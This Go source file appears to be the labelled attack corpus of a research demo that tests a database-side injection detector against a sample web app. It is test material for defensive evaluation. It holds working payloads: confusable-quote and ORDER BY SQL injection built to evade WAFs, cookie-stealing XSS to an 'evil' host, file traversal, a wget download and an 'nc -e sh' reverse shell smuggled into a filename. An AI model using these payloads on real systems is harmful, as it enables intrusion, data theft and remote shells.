@@ -1,0 +1,320 @@
+// Package attacks is the labelled attack corpus of the demonstration:
+// every attack class named in the paper (§II-D, §III-A, §IV), expressed
+// as requests against the WaspMon application, plus benign look-alike
+// traffic for false-positive measurement.
+//
+// Each case is labelled with the class taxonomy and with the *designed*
+// evasion properties (does it exploit the semantic mismatch? is it
+// invisible to a WAF? to a SQL proxy?); the test suite and the accuracy
+// benchmarks verify that the implemented mechanisms behave exactly as
+// labelled — phase A (sanitization fails), phase B (ModSecurity has
+// false negatives), phase D/E (SEPTIC catches everything).
+package attacks
+
+import "github.com/septic-db/septic/internal/webapp"
+
+// Kind is the attack family, per the paper's two detector branches.
+type Kind int
+
+// Attack kinds.
+const (
+	KindInvalid Kind = iota
+	// KindSQLI attacks change the executed query.
+	KindSQLI
+	// KindStored attacks smuggle payloads into the database for later
+	// non-SQL damage (XSS, file inclusion, command execution).
+	KindStored
+)
+
+// String names the kind.
+func (k Kind) String() string {
+	switch k {
+	case KindSQLI:
+		return "sqli"
+	case KindStored:
+		return "stored"
+	default:
+		return "invalid"
+	}
+}
+
+// Class is the fine-grained attack class.
+type Class string
+
+// Attack classes (the paper's taxonomy plus the WAF-evasion variants the
+// demo uses).
+const (
+	ClassTautology     Class = "tautology"
+	ClassMimicry       Class = "syntax-mimicry"
+	ClassUnionExtract  Class = "union-extraction"
+	ClassNumericCtx    Class = "numeric-context"
+	ClassSecondOrder   Class = "second-order"
+	ClassEncodedQuote  Class = "encoded-quote" // semantic mismatch via confusables
+	ClassOperatorSynon Class = "operator-synonym"
+	ClassOrderBy       Class = "orderby-injection"
+	ClassStoredXSS     Class = "stored-xss"
+	ClassRFI           Class = "remote-file-inclusion"
+	ClassLFI           Class = "local-file-inclusion"
+	ClassOSCI          Class = "os-command-injection"
+	ClassRCE           Class = "remote-command-execution"
+)
+
+// Case is one attack in the corpus.
+type Case struct {
+	// Name is the unique case identifier used in reports.
+	Name  string
+	Kind  Kind
+	Class Class
+	// Setup requests prepare the attack (e.g. planting the second-order
+	// payload); they must all succeed for the attack to be armed.
+	Setup []webapp.Request
+	// Request is the attack trigger.
+	Request webapp.Request
+	// Mismatch marks attacks that exploit the semantic mismatch: the
+	// malicious metacharacters only materialize inside the DBMS.
+	Mismatch bool
+	// EvadesWAF is the designed outcome against the mini-CRS WAF
+	// (phase B false negatives). Verified by tests.
+	EvadesWAF bool
+	// EvadesProxy is the designed outcome against the GreenSQL-style
+	// learning proxy. Verified by tests.
+	EvadesProxy bool
+	// Description explains the mechanism for the demo narration.
+	Description string
+}
+
+// Corpus returns the attack cases against WaspMon.
+func Corpus() []Case {
+	return []Case{
+		{
+			Name:  "tautology-encoded-quote",
+			Kind:  KindSQLI,
+			Class: ClassEncodedQuote,
+			Request: webapp.Request{Path: "/device/view", Params: map[string]string{
+				"name": "nothingʼ OR ʼ1ʼ=ʼ1",
+			}},
+			Mismatch:    true,
+			EvadesWAF:   true,
+			EvadesProxy: true,
+			Description: "U+02BC confusables pass mysql_real_escape_string and the WAF; MySQL's charset decode turns them into live quotes forming OR '1'='1'",
+		},
+		{
+			Name:  "mimicry-encoded-quote",
+			Kind:  KindSQLI,
+			Class: ClassMimicry,
+			Request: webapp.Request{Path: "/device/view", Params: map[string]string{
+				"name": "xʼ AND ʼ1ʼ=ʼ1",
+			}},
+			Mismatch:    true,
+			EvadesWAF:   true,
+			EvadesProxy: true,
+			Description: "syntax mimicry: the decoded query keeps the trained node count, only a FIELD_ITEM becomes an INT_ITEM (Fig. 4)",
+		},
+		{
+			Name:  "tautology-numeric-context",
+			Kind:  KindSQLI,
+			Class: ClassNumericCtx,
+			Request: webapp.Request{Path: "/reading/history", Params: map[string]string{
+				"device": "1 OR 1=1", "limit": "100",
+			}},
+			Mismatch:    true, // escaping is a no-op without quotes: a semantic gap, though not a charset one
+			EvadesWAF:   false,
+			EvadesProxy: false,
+			Description: "numeric context needs no quotes, so escaping cannot help; the WAF's tautology regex still sees 'OR 1=1'",
+		},
+		{
+			Name:  "union-numeric-context",
+			Kind:  KindSQLI,
+			Class: ClassUnionExtract,
+			Request: webapp.Request{Path: "/reading/history", Params: map[string]string{
+				"device": "0 UNION SELECT username, email FROM wm_users-- ", "limit": "100",
+			}},
+			Mismatch:    true,
+			EvadesWAF:   false,
+			EvadesProxy: false,
+			Description: "UNION-based extraction of another table through the readings projection",
+		},
+		{
+			Name:  "tautology-operator-synonym",
+			Kind:  KindSQLI,
+			Class: ClassOperatorSynon,
+			Request: webapp.Request{Path: "/reading/history", Params: map[string]string{
+				"device": "1 || 1=1", "limit": "100",
+			}},
+			Mismatch:    true, // numeric context again: nothing for escaping to do
+			EvadesWAF:   true, // the mini-CRS tautology rule anchors on OR/AND words; '||' is MySQL OR
+			EvadesProxy: false,
+			Description: "operator-synonym evasion: '||' is OR in MySQL but matches no WAF keyword rule",
+		},
+		{
+			Name:  "orderby-subquery",
+			Kind:  KindSQLI,
+			Class: ClassOrderBy,
+			Request: webapp.Request{Path: "/devices", Params: map[string]string{
+				"sort": "(SELECT username FROM wm_users LIMIT 1)",
+			}},
+			Mismatch:    true, // identifier context: escaping cannot quote a column name
+			EvadesWAF:   true, // no quote, no UNION, no stacked query — nothing for the CRS to anchor on
+			EvadesProxy: false,
+			Description: "ORDER BY injection: a scalar subquery as the sort key exfiltrates data through result ordering",
+		},
+		{
+			Name:  "orderby-case-blind",
+			Kind:  KindSQLI,
+			Class: ClassOrderBy,
+			Request: webapp.Request{Path: "/devices", Params: map[string]string{
+				// Blind boolean probe: the result ordering reveals whether
+				// the inner condition holds, one bit per request.
+				"sort": "(CASE WHEN (SELECT COUNT(*) FROM wm_users) > 1 THEN name ELSE location END)",
+			}},
+			Mismatch:    true,
+			EvadesWAF:   true, // CASE/WHEN carry none of the CRS anchor tokens
+			EvadesProxy: false,
+			Description: "blind ORDER BY injection: a CASE expression turns result ordering into a one-bit oracle",
+		},
+		{
+			Name:  "second-order-profile",
+			Kind:  KindSQLI,
+			Class: ClassSecondOrder,
+			Setup: []webapp.Request{{Path: "/user/register", Params: map[string]string{
+				"username": "garage' || '1'='1", "email": "so@example.com", "notes": "-",
+			}}},
+			Request: webapp.Request{Path: "/user/profile", Params: map[string]string{
+				// With the standard background traffic (operator seeded as
+				// id 1, alice and bob registered during training), the
+				// planted user is id 4.
+				"id": "4",
+			}},
+			Mismatch:  true,
+			EvadesWAF: true, // the trigger request carries only a numeric id
+			// The proxy DOES see the rebuilt read-back query, whose ASCII
+			// quote visibly changes the shape — an honest catch for the
+			// proxy. The encoded variant below is the one it misses.
+			EvadesProxy: false,
+			Description: "second-order: the stored quote is inert at INSERT (escaped) and live when the profile page concatenates it back (§II-D1)",
+		},
+		{
+			Name:  "second-order-encoded",
+			Kind:  KindSQLI,
+			Class: ClassSecondOrder,
+			Setup: []webapp.Request{{Path: "/user/register2", Params: map[string]string{
+				// Stored through the prepared-statement endpoint: bound
+				// values skip the text pipeline (MySQL binary protocol),
+				// so the confusables reach the column verbatim — the
+				// paper's concat(ID34FG,U+02BC-- ) trick.
+				"username": "garageʼ || ʼ1ʼ=ʼ1", "email": "so2@example.com", "notes": "-",
+			}}},
+			Request: webapp.Request{Path: "/user/profile", Params: map[string]string{
+				"id": "4",
+			}},
+			Mismatch:    true,
+			EvadesWAF:   true, // no ASCII metacharacters anywhere in the requests
+			EvadesProxy: true, // the read-back text holds one opaque literal until the DBMS decodes it
+			Description: "second-order with U+02BC: every byte looks benign until MySQL's charset decode turns the stored confusables into live quotes (§II-D1, Fig. 3)",
+		},
+		{
+			Name:  "stored-xss-script",
+			Kind:  KindStored,
+			Class: ClassStoredXSS,
+			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
+				"id": "1", "notes": "<script>document.location='http://evil/?c='+document.cookie</script>",
+			}},
+			Mismatch:    false,
+			EvadesWAF:   false,
+			EvadesProxy: true, // the INSERT shape is exactly the trained one
+			Description: "the paper's stored XSS: quotes escaped, markup untouched, echoed by /note/view",
+		},
+		{
+			Name:  "stored-xss-data-uri",
+			Kind:  KindStored,
+			Class: ClassStoredXSS,
+			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
+				"id": "1", "notes": `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">win a prize</a>`,
+			}},
+			Mismatch:    false,
+			EvadesWAF:   true, // no <script>, no on*=, no javascript: — nothing for the CRS to anchor on
+			EvadesProxy: true,
+			Description: "data-URI XSS: the payload carries active content only in a scheme the rule set does not model",
+		},
+		{
+			Name:  "stored-rfi",
+			Kind:  KindStored,
+			Class: ClassRFI,
+			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
+				"id": "1", "notes": "https://evil.example/payload.txt?cmd=id",
+			}},
+			Mismatch:    false,
+			EvadesWAF:   true, // the CRS RFI rule anchors on executable extensions
+			EvadesProxy: true,
+			Description: "remote inclusion bait smuggled as a .txt URL with a command query string",
+		},
+		{
+			Name:  "stored-lfi",
+			Kind:  KindStored,
+			Class: ClassLFI,
+			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
+				"id": "1", "notes": "../../../../etc/passwd",
+			}},
+			Mismatch:    false,
+			EvadesWAF:   false,
+			EvadesProxy: true,
+			Description: "path traversal to a sensitive file, for a later include()",
+		},
+		{
+			Name:  "stored-osci-newline",
+			Kind:  KindStored,
+			Class: ClassOSCI,
+			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
+				// Note the payload avoids /etc/ paths and executable URL
+				// extensions, or the LFI/RFI rules would fire instead.
+				"id": "1", "notes": "backup.tgz\nwget http://evil.example/x.bin",
+			}},
+			Mismatch:    false,
+			EvadesWAF:   true, // newline chaining: the CRS RCE rule anchors on ;|&
+			EvadesProxy: true,
+			Description: "newline command chaining for a value later passed to a shell",
+		},
+		{
+			Name:  "stored-rce-substitution",
+			Kind:  KindStored,
+			Class: ClassRCE,
+			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
+				"id": "1", "notes": "report-$(nc -e sh evil 4444).pdf",
+			}},
+			Mismatch:    false,
+			EvadesWAF:   false,
+			EvadesProxy: true,
+			Description: "command substitution smuggled inside a filename",
+		},
+	}
+}
+
+// Benign returns tricky-but-benign requests used for false-positive
+// measurement: values that look suspicious to naive filters but must
+// pass every mechanism.
+func Benign() []webapp.Request {
+	return []webapp.Request{
+		{Path: "/device/view", Params: map[string]string{"name": "heatpump"}},
+		{Path: "/device/view", Params: map[string]string{"name": "O'Brien unit"}},        // apostrophe in honest data
+		{Path: "/device/view", Params: map[string]string{"name": "AC unit (2nd floor)"}}, // parentheses
+		{Path: "/reading/history", Params: map[string]string{"device": "3", "limit": "7"}},
+		{Path: "/note/add", Params: map[string]string{"id": "1", "notes": "check wiring & fuses; then re-test"}},
+		{Path: "/note/add", Params: map[string]string{"id": "1", "notes": "power < 100W is fine, > 5kW is not"}},
+		{Path: "/note/add", Params: map[string]string{"id": "1", "notes": "manual at https://example.com/manual"}},
+		{Path: "/user/register", Params: map[string]string{"username": "anne-marie", "email": "am@example.com", "notes": "new operator"}},
+		{Path: "/user/profile", Params: map[string]string{"id": "1"}},
+		{Path: "/devices", Params: map[string]string{}},
+	}
+}
+
+// MismatchCount counts the corpus cases that exploit the semantic
+// mismatch (reported in EXPERIMENTS.md).
+func MismatchCount() int {
+	n := 0
+	for _, c := range Corpus() {
+		if c.Mismatch {
+			n++
+		}
+	}
+	return n
+}
